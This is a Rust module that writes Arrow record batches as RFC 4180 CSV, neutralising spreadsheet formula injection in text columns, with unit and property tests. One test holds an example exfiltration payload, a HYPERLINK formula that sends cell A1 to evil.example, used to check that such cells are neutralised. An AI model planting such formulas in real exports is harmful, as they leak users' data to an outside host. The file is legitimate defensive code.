//! CSV output with formula cells neutralised (OWASP, "CSV Injection"): a text cell that
//! starts with `=`, `+`, `-`, `@`, a tab or a carriage return would be run as a formula by a
//! spreadsheet that opens the file, so it is written with a single quote in front and quoted:
//! `=HYPERLINK("x")` becomes `"'=HYPERLINK(""x"")"`. The decision is by column type: only text
//! columns (and header names) are touched, so a negative number in a numeric column stays the
//! number `-1.5`. Every other cell is written as RFC 4180 asks (quoted only when it holds a
//! comma, a quote or a line break), with Arrow's display of each type (timestamps as RFC 3339).

use datafusion::arrow::array::RecordBatch;
use datafusion::arrow::datatypes::DataType;
use datafusion::arrow::error::ArrowError;
use datafusion::arrow::util::display::{ArrayFormatter, FormatOptions};

/// The first characters that make a spreadsheet read a cell as a formula.
pub const FORMULA_TRIGGERS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// True for columns whose cells are free text (neutralised); numbers, booleans and times are
/// written as they are.
fn is_text(data_type: &DataType) -> bool {
    match data_type {
        DataType::Dictionary(_, values) => is_text(values),
        other => {
            !(other.is_numeric()
                || other.is_temporal()
                || matches!(other, DataType::Boolean | DataType::Null))
        }
    }
}

/// Appends one cell; `text` says whether the formula guard applies to it.
pub(crate) fn push_cell(out: &mut Vec<u8>, cell: &str, text: bool) {
    let guarded = text && cell.starts_with(FORMULA_TRIGGERS);
    if !guarded && !cell.bytes().any(|b| matches!(b, b',' | b'"' | b'\n' | b'\r')) {
        out.extend_from_slice(cell.as_bytes());
        return;
    }
    out.push(b'"');
    if guarded {
        out.push(b'\'');
    }
    for byte in cell.bytes() {
        if byte == b'"' {
            out.push(b'"');
        }
        out.push(byte);
    }
    out.push(b'"');
}

/// Ends a record of `cells` fields: a record of one empty field is written `""`, so it is not
/// read as a blank line.
fn end_record(out: &mut Vec<u8>, record_start: usize, cells: usize) {
    if cells == 1 && out.len() == record_start {
        out.extend_from_slice(b"\"\"");
    }
    out.push(b'\n');
}

/// The header line of `batch`'s schema (column names are text: they are neutralised too).
pub(crate) fn header(batch: &RecordBatch) -> Vec<u8> {
    let mut out = Vec::new();
    let schema = batch.schema();
    for (i, field) in schema.fields().iter().enumerate() {
        if i > 0 {
            out.push(b',');
        }
        push_cell(&mut out, field.name(), true);
    }
    end_record(&mut out, 0, schema.fields().len());
    out
}

/// The rows of `batch`, one line each; nulls are empty cells.
pub(crate) fn rows(batch: &RecordBatch) -> Result<Vec<u8>, ArrowError> {
    let options = FormatOptions::default().with_null("");
    let columns = batch
        .columns()
        .iter()
        .map(|column| {
            if column.data_type().is_nested() {
                return Err(ArrowError::CsvError(format!(
                    "nested type {} cannot be written as CSV",
                    column.data_type()
                )));
            }
            Ok((ArrayFormatter::try_new(column.as_ref(), &options)?, is_text(column.data_type())))
        })
        .collect::<Result<Vec<_>, ArrowError>>()?;
    let mut out = Vec::with_capacity(batch.num_rows() * 32);
    let mut cell = String::new();
    for row in 0..batch.num_rows() {
        let record_start = out.len();
        for (i, (formatter, text)) in columns.iter().enumerate() {
            if i > 0 {
                out.push(b',');
            }
            cell.clear();
            formatter.value(row).write(&mut cell).map_err(|e| ArrowError::CsvError(e.to_string()))?;
            push_cell(&mut out, &cell, *text);
        }
        end_record(&mut out, record_start, columns.len());
    }
    Ok(out)
}

#[cfg(test)]
mod tests {
    use std::sync::Arc;

    use datafusion::arrow::array::{
        ArrayRef, Float64Array, Int64Array, StringArray, TimestampNanosecondArray,
    };
    use datafusion::arrow::datatypes::{Field, Schema};

    use super::*;

    fn cell(text: &str, is_text: bool) -> String {
        let mut out = Vec::new();
        push_cell(&mut out, text, is_text);
        String::from_utf8(out).unwrap_or_default()
    }

    #[test]
    fn formula_text_cells_get_a_quote_and_quotes() {
        assert_eq!(cell("=1+1", true), "\"'=1+1\"");
        assert_eq!(cell("+41 22", true), "\"'+41 22\"");
        assert_eq!(cell("-x", true), "\"'-x\"");
        assert_eq!(cell("@SUM(A1)", true), "\"'@SUM(A1)\"");
        assert_eq!(cell("\tx", true), "\"'\tx\"");
        assert_eq!(cell("\rx", true), "\"'\rx\"");
        assert_eq!(
            cell("=HYPERLINK(\"https://evil.example/?leak=\"&A1,\"open\")", true),
            "\"'=HYPERLINK(\"\"https://evil.example/?leak=\"\"&A1,\"\"open\"\")\""
        );
        // Not at the start, or not text: unchanged (quoted only for CSV's own reasons).
        assert_eq!(cell("a=b", true), "a=b");
        assert_eq!(cell("-1.5", false), "-1.5");
        assert_eq!(cell("a,b", true), "\"a,b\"");
        assert_eq!(cell("", true), "");
    }

    #[test]
    fn batches_keep_numbers_and_neutralise_text_by_column_type() {
        let schema = Arc::new(Schema::new(vec![
            Field::new("=name", DataType::Utf8, true),
            Field::new("value", DataType::Float64, true),
            Field::new("n", DataType::Int64, true),
            Field::new(
                "ts",
                DataType::Timestamp(datafusion::arrow::datatypes::TimeUnit::Nanosecond, Some("UTC".into())),
                true,
            ),
        ]));
        let columns: Vec<ArrayRef> = vec![
            Arc::new(StringArray::from(vec![Some("-2"), Some("buoy-a"), None])),
            Arc::new(Float64Array::from(vec![Some(-1.5), Some(35.0), None])),
            Arc::new(Int64Array::from(vec![Some(-7), Some(0), None])),
            Arc::new(
                TimestampNanosecondArray::from(vec![Some(0), Some(1_500_000_000), None]).with_timezone("UTC"),
            ),
        ];
        let batch = RecordBatch::try_new(schema, columns).unwrap();
        assert_eq!(String::from_utf8(header(&batch)).unwrap(), "\"'=name\",value,n,ts\n");
        assert_eq!(
            String::from_utf8(rows(&batch).unwrap()).unwrap(),
            "\"'-2\",-1.5,-7,1970-01-01T00:00:00Z\nbuoy-a,35.0,0,1970-01-01T00:00:01.500Z\n,,,\n"
        );
    }

    /// Reads one CSV field back as RFC 4180 does.
    fn read_cell(written: &str) -> String {
        match written.strip_prefix('"').and_then(|inner| inner.strip_suffix('"')) {
            Some(inner) => inner.replace("\"\"", "\""),
            None => written.to_owned(),
        }
    }

    proptest::proptest! {
        #[test]
        fn cells_read_back_exactly_and_text_never_starts_a_formula(cell in "\\PC{0,24}|[-=+@\t\r][ -~]{0,8}", text: bool) {
            let written = super::tests::cell(&cell, text);
            let read = read_cell(&written);
            let guarded = text && cell.starts_with(FORMULA_TRIGGERS);
            proptest::prop_assert_eq!(&read, &if guarded { format!("'{cell}") } else { cell.clone() });
            if text {
                proptest::prop_assert!(!read.starts_with(FORMULA_TRIGGERS), "{read:?}");
                // A guarded cell is written quoted with its guard first (an unguarded one may
                // start the same way: a cell of its own that begins with `'` and needs quotes).
                proptest::prop_assert!(!guarded || written.starts_with("\"'"), "{written:?}");
            }
        }

        #[test]
        fn numbers_are_written_as_they_are(value: f64) {
            let shown = value.to_string();
            proptest::prop_assert_eq!(super::tests::cell(&shown, false), shown);
        }
    }

    #[test]
    fn a_single_empty_cell_is_written_as_empty_quotes() {
        let schema = Arc::new(Schema::new(vec![Field::new("x", DataType::Utf8, true)]));
        let batch =
            RecordBatch::try_new(schema, vec![Arc::new(StringArray::from(vec![None::<&str>, Some("")]))])
                .unwrap();
        assert_eq!(String::from_utf8(rows(&batch).unwrap()).unwrap(), "\"\"\n\"\"\n");
    }
}
